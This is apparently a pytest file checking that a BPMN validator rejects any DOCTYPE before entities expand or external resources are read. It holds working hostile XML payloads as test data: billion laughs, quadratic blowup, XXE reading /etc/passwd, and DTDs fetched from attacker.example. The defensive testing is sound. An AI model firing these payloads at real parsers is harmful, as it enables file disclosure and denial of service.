"""Hostile XML is refused before any entity is expanded or any external resource is read."""

from __future__ import annotations

import os
import time
from pathlib import Path

import pytest

from app.bpmn import BpmnValidationError, validate_bpmn, validation
from tests.bpmn.helpers import MODEL_NS

BODY = f'<bpmn:definitions xmlns:bpmn="{MODEL_NS}"><bpmn:process id="P">{{}}</bpmn:process></bpmn:definitions>'

LOLS = "".join(f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10))
BILLION_LAUGHS = f'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol0 "lol">{LOLS}]>' + BODY.format("&lol9;")
QUADRATIC = f'<!DOCTYPE d [<!ENTITY big "{"x" * 100_000}">]>' + BODY.format("&big;" * 20_000)
XXE = '<!DOCTYPE d [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>' + BODY.format("&xxe;")
EXTERNAL_DTD = '<!DOCTYPE d SYSTEM "http://attacker.example/evil.dtd">' + BODY.format("")
PUBLIC_DTD = '<!DOCTYPE d PUBLIC "-//X//DTD X//EN" "http://attacker.example/x.dtd">' + BODY.format("")
PARAMETER_ENTITY = (
    '<!DOCTYPE d [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;'
    '<!ENTITY % file SYSTEM "file:///etc/passwd">]>' + BODY.format("")
)
INTERNAL_SUBSET_ONLY = "<!DOCTYPE bpmn:definitions []>" + BODY.format("")
AFTER_COMMENT_AND_PI = '<?xml version="1.0"?><!-- hi --><?pi x?><!DOCTYPE d [<!ENTITY a "b">]>' + BODY.format("&a;")

HOSTILE = {
    "billion_laughs": BILLION_LAUGHS,
    "quadratic_blowup": QUADRATIC,
    "external_entity_etc_passwd": XXE,
    "external_dtd": EXTERNAL_DTD,
    "public_dtd": PUBLIC_DTD,
    "parameter_entities": PARAMETER_ENTITY,
    "empty_internal_subset": INTERNAL_SUBSET_ONLY,
    "doctype_after_comment_and_pi": AFTER_COMMENT_AND_PI,
}


@pytest.mark.parametrize("document", HOSTILE.values(), ids=HOSTILE.keys())
def test_any_doctype_is_refused_quickly(document: str) -> None:
    started = time.perf_counter()
    with pytest.raises(BpmnValidationError) as caught:
        validate_bpmn(document)
    assert caught.value.code == "dtd_forbidden"
    assert "DOCTYPE" in caught.value.message
    assert "root:" not in caught.value.message
    assert time.perf_counter() - started < 1.0


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16", "utf-16-le"])
def test_doctype_is_refused_in_any_encoding(encoding: str) -> None:
    declared = "utf-16" if encoding.startswith("utf-16") else encoding
    document = f'<?xml version="1.0" encoding="{declared}"?>' + XXE
    data = document.encode(encoding)
    if encoding == "utf-16-le":
        data = b"\xff\xfe" + data
    with pytest.raises(BpmnValidationError) as caught:
        validate_bpmn(data)
    assert caught.value.code == "dtd_forbidden"


@pytest.mark.parametrize("document", HOSTILE.values(), ids=HOSTILE.keys())
def test_lxml_layer_alone_still_refuses_doctypes(document: str, monkeypatch: pytest.MonkeyPatch) -> None:
    # Switch off the expat prolog scan: the safe lxml parser and the docinfo check must hold on their own.
    monkeypatch.setattr(validation, "_refuse_doctype", lambda raw, *, is_text: None)
    started = time.perf_counter()
    with pytest.raises(BpmnValidationError) as caught:
        validate_bpmn(document)
    assert caught.value.code in ("dtd_forbidden", "entity_forbidden")
    assert time.perf_counter() - started < 1.0


@pytest.fixture
def fifo(tmp_path: Path) -> Path:
    # Opening a FIFO with no writer blocks: a parser that reads an external resource hangs here.
    path = tmp_path / "secret"
    os.mkfifo(path)
    return path


FIFO_DOCUMENTS = {
    "external_entity": '<!DOCTYPE d [<!ENTITY x SYSTEM "file://{path}">]>' + BODY.format("&x;"),
    "parameter_entity": '<!DOCTYPE d [<!ENTITY % x SYSTEM "file://{path}"> %x;]>' + BODY.format(""),
    "external_dtd": '<!DOCTYPE d SYSTEM "file://{path}">' + BODY.format(""),
}


@pytest.mark.timeout(10)
@pytest.mark.parametrize("scan", [True, False], ids=["with_prolog_scan", "lxml_only"])
@pytest.mark.parametrize("template", FIFO_DOCUMENTS.values(), ids=FIFO_DOCUMENTS.keys())
def test_external_resources_are_never_opened(
    template: str, scan: bool, fifo: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    if not scan:
        monkeypatch.setattr(validation, "_refuse_doctype", lambda raw, *, is_text: None)
    with pytest.raises(BpmnValidationError) as caught:
        validate_bpmn(template.replace("{path}", str(fifo)))
    assert caught.value.code == "dtd_forbidden"


def test_undeclared_entity_reference_is_refused_as_entity() -> None:
    with pytest.raises(BpmnValidationError) as caught:
        validate_bpmn(BODY.format("&passwd;"))
    assert caught.value.code == "entity_forbidden"
    assert "passwd" in caught.value.message


def test_predefined_entities_and_character_references_are_plain_text() -> None:
    summary = validate_bpmn(BODY.format('<bpmn:startEvent id="S"/><bpmn:task id="T" name="a &amp; b &#233; &lt;"/>'))
    assert summary.element_counts == {"startEvent": 1, "task": 1}


@pytest.mark.parametrize(
    ("document", "line", "column"),
    [
        (f'<bpmn:definitions xmlns:bpmn="{MODEL_NS}">\n  <bpmn:process id="P">\n</bpmn:definitions>', 3, 20),
        (f'<bpmn:definitions xmlns:bpmn="{MODEL_NS}">\n<a b="1" b="2"/></bpmn:definitions>', 2, 15),
        ("not xml at all", 1, 1),
    ],
)
def test_malformed_xml_reports_line_and_column(document: str, line: int, column: int) -> None:
    with pytest.raises(BpmnValidationError) as caught:
        validate_bpmn(document)
    error = caught.value
    assert error.code == "not_xml"
    assert error.line == line
    assert error.column == column  # as libxml2 reports it
    assert f"line {line}, column {column}" in error.message


@pytest.mark.parametrize("uri", ["not a uri", "http://x y", "ibm bpm/ext"])
def test_a_namespace_name_that_is_not_a_uri_is_still_well_formed(uri: str) -> None:
    # IBM Process Designer writes such names; libxml2 reports them as errors, the XML is well-formed.
    document = (
        f'<bpmn:definitions xmlns:bpmn="{MODEL_NS}" xmlns:ext="{uri}"><bpmn:process id="P">'
        '<bpmn:startEvent id="S" ext:x="1"/></bpmn:process></bpmn:definitions>'
    )
    assert validate_bpmn(document).element_counts == {"startEvent": 1}


def test_a_namespace_warning_does_not_hide_a_real_error() -> None:
    document = f'<bpmn:definitions xmlns:bpmn="{MODEL_NS}" xmlns:ext="not a uri"><bpmn:process id="P">'
    with pytest.raises(BpmnValidationError) as caught:
        validate_bpmn(document)
    assert caught.value.code == "not_xml"


def test_nesting_past_the_parsers_limit_is_refused_in_plain_words() -> None:
    deep = BODY.format("<a>" * 100_000 + "</a>" * 100_000)
    with pytest.raises(BpmnValidationError) as refused:
        validate_bpmn(deep)
    assert "elements are nested more than 256 levels deep" in refused.value.message
    assert "XML_PARSE_HUGE" not in refused.value.message  # the parser's option is not the user's to set
